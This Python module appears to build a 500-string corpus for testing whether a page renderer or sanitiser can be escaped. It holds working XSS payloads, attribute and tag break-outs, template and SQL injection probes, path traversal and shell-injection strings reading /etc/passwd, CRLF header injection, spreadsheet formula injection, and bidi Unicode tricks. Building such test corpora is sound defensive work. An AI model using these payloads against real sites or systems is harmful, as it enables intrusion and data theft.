"""Five hundred strings that try to leave the box they are shown in.

Whatever they would bring into a page carries MARK, in the name of an element, of an attribute, or in its value, so
that a page is judged by looking for the mark anywhere but in text.
"""

from __future__ import annotations

from itertools import product

MARK = "pwn7f3a"
OPEN, CLOSE = "⟦", "⟧"
"""Round every planted value, so that it is known where it begins and ends."""
CALL = f"window.{MARK}=1"

ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<script {MARK} src=//{MARK}.example/x></script>",
    f"<img src=x onerror={CALL} {MARK}>",
    f"<svg/onload={CALL} {MARK}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<{MARK}>bold</{MARK}>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>' {MARK}>",
    f"<details open ontoggle={CALL} {MARK}>",
    f"<input autofocus onfocus={CALL} {MARK}>",
    f'<a href="javascript:{CALL}" {MARK}>link</a>',
    f"<form action=//{MARK}.example><button {MARK}>Send</button></form>",
    f"<style>*{{background:url(//{MARK}.example)}}</style>",
    f"<link rel=stylesheet href=//{MARK}.example {MARK}>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.example'>",
    f"<base href=//{MARK}.example/ {MARK}>",
    f'<object data="data:text/html,<script>{CALL}</script>" {MARK}></object>',
    f"<math><mtext><{MARK}><img src=x onerror={CALL}>",
    f"<template><{MARK}></template>",
    f"<video><source onerror={CALL} {MARK}></video>",
    f"<marquee onstart={CALL} {MARK}>",
)
BREAKS = (
    "", '"', "'", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</script>", "</style>", "</option></select>",
    "</svg>", "</table>", "\\\">", "&quot;>", "`>", "}}", "%}", "<!--",
)  # fmt: skip
ATTRIBUTES = tuple(
    f"{quote} {name}={CALL} {MARK}={quote}"
    for quote, name in product(('"', "'", "`", ""), ("onmouseover", "onfocus", "style", "formaction", "srcdoc"))
)
URLS = tuple(
    f"{scheme}{CALL}//{MARK}"
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "data:text/html,", "vbscript:")
)
TEMPLATES = (
    "{{ 7|add:7 }}", "{% load static %}", "{% debug %}", "${7*7}", "#{7*7}", "{{constructor.constructor('x')()}}",
    "%(name)s", "%s%s%s%n", "{0.__class__}", "{x!r:>9999}", "$(id)", "`id`", "'; DROP TABLE reports; --", "1 OR 1=1",
    "../../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "\\\\host\\share", "||cat /etc/passwd",
    "=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1", "|x", "%00", "%0d%0aSet-Cookie: a=b",
)  # fmt: skip
BIDI = tuple(chr(code) for code in (0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x202C, 0x2069, 0x200F))
SCRIPTS = (
    "مرحبا بكم", "السلام علیکم", "Şüpheli İğne ı", "ᴮᴵᴳᴮᴵᴿᴰ", "раураl", "👩\u200d👩\u200d👧\u200d👦", "𝒽𝑒𝓁𝓁𝑜",
    "e" + "\u0301" * 40, "Z\u0338o\u0334" * 8, "ﷺ" * 10, "\u200b\u200b\u200b", "\u00ad" * 20, "\ufeffbom",
    "\u2028line\u2029para", "ｆｕｌｌｗｉｄｔｈ", "ß→SS", "İ", "ſ", "K",
)  # fmt: skip
LONG = (
    "A" * 400, "ا" * 400, "ﷺ" * 100, "W" * 200 + " " + "i" * 200, "https://example.org/" + "a" * 380, "ـ" * 300,
    "&" * 200, "<" * 200, '"' * 200, "\\" * 200, "1" * 300,
)  # fmt: skip


def _made() -> list[str]:
    found = [f"{lead}{element}" for element, lead in product(ELEMENTS, BREAKS)]
    others = [*ATTRIBUTES, *URLS, *TEMPLATES, *SCRIPTS, *LONG]
    others += [f"{sign}evil {MARK} text" for sign in BIDI]
    others += [f"Line one{sign}\u0627\u0644\u0646\u0635{sign * 3}" for sign in BIDI]
    others += [element.replace("<", "&lt;").replace(">", "&gt;") for element in ELEMENTS[:6]]
    room = 500 - len(others)
    step = len(found) / room
    return [found[int(place * step)] for place in range(room)] + others


STRINGS = _made()
